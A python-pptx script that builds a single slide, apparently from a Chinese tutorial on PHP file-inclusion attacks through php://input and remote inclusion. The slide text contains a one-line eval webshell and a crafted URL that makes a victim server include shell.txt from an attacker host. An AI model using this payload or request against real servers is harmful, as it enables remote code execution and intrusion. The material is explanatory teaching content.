
from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.dml import MSO_LINE, MSO_PATTERN
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, MSO_AUTO_SIZE
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt

STRAIGHT = MSO_CONNECTOR.STRAIGHT
HEXAGON, RECTANGLE = MSO_SHAPE.HEXAGON, MSO_SHAPE.RECTANGLE
W, H = 14.06, 7.91
FONT = "Times New Roman"
COLORS = {"blue": "0050A3", "amber": "FFC000", "white": "FFFFFF", "stripe": "F2F2F2",
          "line": "A6A6A6", "dark": "404040", "gray": "595959", "red": "FF0000",
          "shadow": "000000"}


def rgb(name):
    return RGBColor.from_string(COLORS[name])


def outline(contours, color):
    """Add one filled freeform; contours inside another one become holes."""
    points = [[(Inches(x), Inches(y)) for x, y in c] for c in contours]
    fb = s.shapes.build_freeform(*points[0][0], scale=1.0)
    fb.add_line_segments(points[0][1:])
    for c in points[1:]:
        fb.move_to(*c[0])
        fb.add_line_segments(c[1:])
    sp = fb.convert_to_shape()
    sp.shadow.inherit = False
    sp.fill.solid()
    sp.fill.fore_color.rgb = rgb(color)
    sp.line.fill.background()


prs = Presentation()
prs.slide_width, prs.slide_height = Inches(W), Inches(H)
s = prs.slides.add_slide(prs.slide_layouts[6])
bg = s.background.fill
bg.patterned()
bg.pattern = MSO_PATTERN.WIDE_UPWARD_DIAGONAL
bg.fore_color.rgb, bg.back_color.rgb = rgb("stripe"), rgb("white")

# Frame with four mirrored corners
frame = s.shapes.add_shape(RECTANGLE, Inches(0.09), Inches(0.09), Inches(13.89), Inches(7.73))
frame.shadow.inherit = False
frame.fill.background()
frame.line.color.rgb = rgb("line")
frame.line.width = Pt(2)

corner = [(0, 0), (2.39, 0), (2.27, 0.12), (0.12, 0.12), (0.12, 1.6), (0, 1.71)]
for right in (False, True):
    for bottom in (False, True):
        outline([[(W - x if right else x, H - y if bottom else y) for x, y in corner]], "blue")

# Icons
monitor = [
    [(1.49, 4.57), (2.09, 4.57), (2.12, 4.58), (2.13, 4.6), (2.13, 4.98), (2.12, 5),
     (2.09, 5.01), (1.87, 5.01), (1.87, 5.08), (1.96, 5.08), (1.99, 5.11), (1.96, 5.14),
     (1.63, 5.14), (1.6, 5.11), (1.63, 5.08), (1.72, 5.08), (1.72, 5.01), (1.49, 5.01),
     (1.47, 5), (1.46, 4.98), (1.46, 4.6), (1.47, 4.58)],
    [(1.51, 4.62), (1.51, 4.96), (2.08, 4.96), (2.08, 4.62)],
    [(1.83, 4.66), (1.84, 4.67), (1.84, 4.69), (1.78, 4.9), (1.76, 4.91), (1.74, 4.9),
     (1.74, 4.89), (1.81, 4.68)],
]
bracket = [(1.86, 4.72), (1.97, 4.77), (1.98, 4.79), (1.97, 4.81), (1.86, 4.86),
           (1.84, 4.84), (1.85, 4.82), (1.92, 4.79), (1.85, 4.76), (1.84, 4.74)]
monitor += [bracket, [(3.58 - x, y) for x, y in bracket]]

laptop = [
    [(1.53, 1.58), (2.06, 1.58), (2.09, 1.59), (2.1, 1.62), (2.1, 2), (2.12, 2),
     (2.13, 2.02), (2.13, 2.05), (2.11, 2.07), (1.48, 2.07), (1.46, 2.05), (1.46, 2.02),
     (1.47, 2), (1.48, 2), (1.48, 1.62), (1.49, 1.59)],
    [(1.54, 1.62), (1.53, 1.63), (1.53, 1.97), (1.54, 1.98), (2.05, 1.98), (2.06, 1.97),
     (2.06, 1.63), (2.05, 1.62)],
    [(1.55, 1.65), (2.04, 1.65), (2.04, 1.96), (1.55, 1.96)],
    [(1.48, 2.02), (1.48, 2.04), (2.1, 2.04), (2.1, 2.02), (1.86, 2.02), (1.84, 2.03),
     (1.75, 2.03), (1.73, 2.02)],
]
# The inside of the screen is open, so the letters P, H, P are cut last
letter_h = [(1.75, 1.75), (1.77, 1.75), (1.77, 1.79), (1.81, 1.79), (1.81, 1.75),
            (1.84, 1.75), (1.84, 1.86), (1.81, 1.86), (1.81, 1.81), (1.77, 1.81),
            (1.77, 1.86), (1.75, 1.86)]
letter_p = [(0, 1.75), (0.04, 1.75), (0.06, 1.76), (0.07, 1.78), (0.06, 1.81),
            (0.04, 1.82), (0.02, 1.82), (0.02, 1.86), (0, 1.86)]
p_bowl = [(0.02, 1.77), (0.04, 1.77), (0.05, 1.78), (0.04, 1.8), (0.02, 1.8)]
laptop.append(letter_h)
for left in (1.65, 1.87):
    laptop += [[(left + x, y) for x, y in c] for c in (letter_p, p_bowl)]
# Only the outer rim of the screen stays filled
del laptop[2]

# Each run: text, colour, bold
pseudo_protocol = [
    [("2. 通过PHP伪协议进行包含", "gray", True)],
    [("在PHP中，如果allow_url_fopen和allow_url_include同时开启的情况下，", "gray", False),
     ("include等函数支持从PHP伪协议中的php://input处获取输入流", "gray", True),
     ("，关于PHP伪协议的相关知识会在下面讨论，这里只关注其中的php://input。", "gray", False)],
    [("php://input可以访问请求的原始数据的只读流，也就是通过POST方式发送的内容。", "red", False),
     ("借助PHP伪协议，攻击者直接将想要在服务器上执行的恶意代码通过POST的方式发送给服务器就能完成攻击",
      "red", True),
     ("。", "gray", False)],
]
remote_file = [
    [("包含攻击者服务器上的恶意文件", "dark", True)],
    [("由于allow_url_fopen与 allow_url_include 是开启的，攻击者可以", "dark", False),
     ("将包含恶意代码的文件放在自己的服务器上", "dark", True),
     ("，例如一个内容为<?php eval($_POST[‘pass’]);?>的shell.txt文件，"
      "构造恶意请求http://www.victim.com/index.php", "dark", False),
     ("?func=http://www.hacker.com/shell.txt", "red", True),
     ("，shell.txt中的恶意代码就会在目标服务器上执行。", "dark", False)],
]

# Centre height, hexagon colour, icon, text box, paragraphs, numbered heading
items = [
    (4.86, "amber", monitor, (3.31, 3.42, 9.78, 3.33), pseudo_protocol, False),
    (1.82, "blue", laptop, (3.37, 0.56, 9.88, 2.52), remote_file, True),
]
for mid, color, icon, box, paragraphs, numbered in items:
    hexagon = s.shapes.add_shape(HEXAGON, Inches(1.13), Inches(mid - 0.58),
                                 Inches(1.34), Inches(1.16))
    hexagon.shadow.inherit = False
    hexagon.fill.solid()
    hexagon.fill.fore_color.rgb = rgb(color)
    hexagon.line.fill.background()
    effects = hexagon._element.spPr.find(qn("a:effectLst"))
    shadow = etree.SubElement(effects, qn("a:outerShdw"), blurRad=str(Pt(4)), dist=str(Pt(3)),
                              dir="2700000", algn="tl", rotWithShape="0")
    shade = etree.SubElement(shadow, qn("a:srgbClr"), val=COLORS["shadow"])
    etree.SubElement(shade, qn("a:alpha"), val="20000")

    tb = s.shapes.add_textbox(*[Inches(v) for v in box])
    tf = tb.text_frame
    tf.word_wrap = True
    tf.auto_size = MSO_AUTO_SIZE.SHAPE_TO_FIT_TEXT
    tf.vertical_anchor = MSO_ANCHOR.MIDDLE
    for i, runs in enumerate(paragraphs):
        p = tf.paragraphs[0] if i == 0 else tf.add_paragraph()
        if numbered and i == 0:
            pPr = p._p.get_or_add_pPr()
            pPr.set("marL", str(Inches(0.5)))
            pPr.set("indent", str(-Inches(0.5)))
            etree.SubElement(pPr, qn("a:buFont"), typeface="+mj-lt")
            etree.SubElement(pPr, qn("a:buAutoNum"), type="arabicPeriod")
        for text, ink, bold in runs:
            r = p.add_run()
            r.text = text
            r.font.name, r.font.size, r.font.bold = FONT, Pt(24), bold
            r.font.color.rgb = rgb(ink)

    arrow = s.shapes.add_connector(STRAIGHT, Inches(2.58), Inches(mid), Inches(3.34), Inches(mid))
    arrow.line.color.rgb = rgb("line")
    arrow.line.width = Pt(1.5)
    arrow.line.dash_style = MSO_LINE.SQUARE_DOT
    ln = arrow.line._get_or_add_ln()
    etree.SubElement(ln, qn("a:headEnd"), type="oval")
    etree.SubElement(ln, qn("a:tailEnd"), type="triangle")
    etree.SubElement(arrow._element.spPr, qn("a:effectLst"))

    outline(icon, color="white")

prs.save("out.pptx")
